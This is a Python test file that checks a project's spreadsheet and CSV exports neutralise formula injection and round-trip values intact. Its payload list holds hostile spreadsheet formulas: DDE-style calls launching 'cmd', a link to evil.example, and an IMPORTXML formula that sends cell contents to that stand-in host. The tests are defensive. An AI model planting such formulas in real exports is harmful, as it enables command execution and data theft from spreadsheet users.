"""Text that no spreadsheet program calculates, at every export, and that comes back unchanged."""

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot import Key, inert, read_item, read_upload, restored, sheets_of, write_csv, write_csv_files, write_workbook
from web.opendata.table import write

PAYLOADS = (
    "=1+1", "=HYPERLINK(\"https://evil.example\";\"Klicka\")", "=cmd|'/c calc'!A0", "+46 933-140 00", "-5 °C",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"https://evil.example/\";A1);\"//a\")", "\uff1d1+1", "'=1+1",
    "''-1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+1\t=1", " =1",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@given(st.text() | st.tuples(st.text("'=+-@ \t\r\n\0", max_size=4), st.text()).map("".join))
def test_whatever_is_made_inert_comes_back(text: str) -> None:
    assert restored(inert(text)) == text
    assert not inert(text).lstrip(" ").startswith(STARTS)


@given(st.text())
def test_what_somebody_typed_is_never_taken_for_more_than_it_is(text: str) -> None:
    assert restored(text) in (text, text[1:])
    assert inert(restored(text)) == inert(text) or restored(text) != text


def group(*words: str) -> dict[Key, object]:
    key = Key("vocabulary", "group", "odd")
    return {key: read_item("group", {"id": "odd", "words": list(words)})}


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_cell_of_any_export_is_calculated_and_every_one_comes_back(payload: str) -> None:
    [sheet] = sheets_of(group(payload), ["group"])  # type: ignore[arg-type]  # of one kind
    page = openpyxl.load_workbook(io.BytesIO(write_workbook([sheet], [("=1", "=2")])))
    cells = [cell for one in page.worksheets for row in one.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells if cell.value.startswith(STARTS)] == []
    rows = list(csv.reader(io.StringIO(write_csv(sheet).decode("utf-8-sig")), delimiter=";"))
    assert [cell for row in rows for cell in row if cell.startswith(STARTS)] == []
    for data, name in (
        (write_workbook([sheet]), "a.xlsx"),
        (write_csv(sheet), "groups.csv"),
        (write_csv_files([sheet]), "a.zip"),
    ):
        assert read_upload(data, name)["group"].rows[0].cells["words"] == payload.strip()


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_open_data_is_inert_too(payload: str) -> None:
    text = write("contacts", [{"id": "x", "name": {"sv": payload, "en": None}}])
    assert not next(csv.DictReader(io.StringIO(text)))["name_sv"].startswith(STARTS)
